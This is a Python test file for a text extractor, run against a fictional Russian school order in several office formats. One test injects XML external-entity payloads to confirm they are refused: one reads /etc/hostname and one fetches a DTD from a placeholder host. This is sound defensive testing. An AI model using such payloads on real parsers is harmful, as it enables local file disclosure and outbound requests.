"""One letter in every format gives the same words: what a person sees, and nothing else."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest

from audit_rules.facts.text import extract, letter
from audit_rules.facts.text.ocr import ocr_available
from tests.audit_rules.text.made import FILES, docx_bytes

FORMATS = ["docx", "docm", "doc", "odt", "rtf"]
SEEN = """МБОУ «Вымышленская школа № 7»
УТВЕРЖДЕНО
приказом от 15.09.2022 № 187-1
ПРИКАЗ
от 15.09.2022 № 187-А
О внедрении целевой модели наставничества
Сайт: сайт школы
ПРИКАЗЫВАЮ:
1. Внедрить целевую модель.
2. Утвердить:
• Положение о системе наставничества;
• дорожную карту.
3. Назначить куратора.
Мероприятие | Срок
Отбор | октябрь | 2022
Директор Выдуманный А.А."""


def body(kind: str) -> bytes:
    """The letter in that format."""
    return (FILES / f"made_up_letter.{kind}").read_bytes()


def changed(body: bytes, change: dict[bytes, bytes], *, names: dict[str, str] | None = None) -> bytes:
    """The package with bytes changed in all its XML, and its parts' names."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            part = old.read(info)
            for before, after in change.items():
                part = part.replace(before, after) if info.filename.endswith((".xml", ".rels")) else part
            new.writestr((names or {}).get(info.filename, info.filename), part)
    return out.getvalue()


@pytest.fixture
def no_picture_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every picture is one too many."""
    monkeypatch.setattr(letter, "MAX_PICTURES", 0)
    monkeypatch.setattr(letter, "PAGE_BYTES", 1000)


@pytest.mark.usefixtures("no_picture_is_read")
@pytest.mark.parametrize("kind", FORMATS)
def test_the_words_a_person_sees(kind: str) -> None:
    text = extract(body(kind), f"приказ.{kind}")
    assert text.pages[0].text == SEEN
    assert text.pages[1].text == "Приложение 1"
    assert text.pages[0].tables == ((("Мероприятие", "Срок"), ("Отбор", "октябрь | 2022")),)


@pytest.mark.usefixtures("no_picture_is_read")
@pytest.mark.parametrize("kind", ["docx", "doc", "odt"])
def test_a_picture_too_many_is_an_unread_page(kind: str) -> None:
    assert [page.failure for page in extract(body(kind)).pages] == [None, None, "too_large"]


@pytest.mark.skipif(not ocr_available(), reason="no Tesseract")
@pytest.mark.parametrize("kind", ["doc", "odt"])
def test_a_scan_pasted_into_the_letter_is_a_page(kind: str) -> None:
    page = extract(body(kind)).pages[2]
    assert page.source == "ocr"
    assert "15.09.2022 № 187-1" in page.text


@pytest.mark.parametrize("kind", FORMATS)
@pytest.mark.parametrize("tenths", [1, 4, 7, 9])
def test_a_letter_cut_short_is_broken_and_never_half_read(kind: str, tenths: int) -> None:
    whole = body(kind)
    assert extract(whole[: len(whole) * tenths // 10], f"приказ.{kind}").failure == "broken"


@pytest.mark.parametrize("kind", ["doc", "odt", "xls"])
def test_a_password_is_said_to_be_one(kind: str) -> None:
    assert extract((FILES / f"made_up_password.{kind}").read_bytes()).failure == "encrypted"


def test_the_strict_variant_of_the_standard() -> None:
    strict = {
        b"http://schemas.openxmlformats.org/wordprocessingml/2006/main": b"http://purl.oclc.org/ooxml/wordprocessingml/main",
        b"http://schemas.openxmlformats.org/officeDocument/2006/": b"http://purl.oclc.org/ooxml/officeDocument/",
    }
    assert extract(changed(body("docm"), strict)).pages[0].text == SEEN


def test_names_of_parts_as_careless_programs_write_them() -> None:
    names = {"word/document.xml": "word\\document.xml", "word/numbering.xml": "Word/Numbering.xml"}
    assert extract(changed(body("docm"), {}, names=names)).pages[0].text == SEEN


@pytest.mark.parametrize(
    "entity", [b'<!ENTITY x "bomb">', b'<!ENTITY x SYSTEM "file:///etc/hostname">', b'<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;']
)
@pytest.mark.parametrize(("kind", "part"), [("docm", b"<w:document"), ("odt", b"<office:document-content")])
def test_a_letter_with_entities_is_refused(kind: str, part: bytes, entity: bytes) -> None:
    assert extract(changed(body(kind), {part: b"<!DOCTYPE x [" + entity + b"]>" + part})).failure == "broken"


def test_a_part_that_is_damaged_is_not_read_as_far_as_it_goes() -> None:
    assert extract(changed(body("odt"), {b"</office:text>": b""})).failure == "broken"
    assert extract(changed(body("docm"), {b"</w:body>": b""})).failure == "broken"


def test_a_letter_that_lies_in_one_cell_keeps_its_lines() -> None:
    document = docx.Document()
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "МБОУ «Вымышленская школа»\nПРИКАЗ\nот 15.09.2022 № 187-1"
    table.cell(1, 0).text, table.cell(1, 1).text = "МБОУ «Вымышленская школа»\nПРИКАЗ", "Уйдырма мәктәбе\nБОЕРЫК"
    assert extract(docx_bytes(document)).whole.split("\n") == [
        *("МБОУ «Вымышленская школа»", "ПРИКАЗ", "от 15.09.2022 № 187-1"),
        *("МБОУ «Вымышленская школа»", "ПРИКАЗ", "Уйдырма мәктәбе", "БОЕРЫК"),
    ]
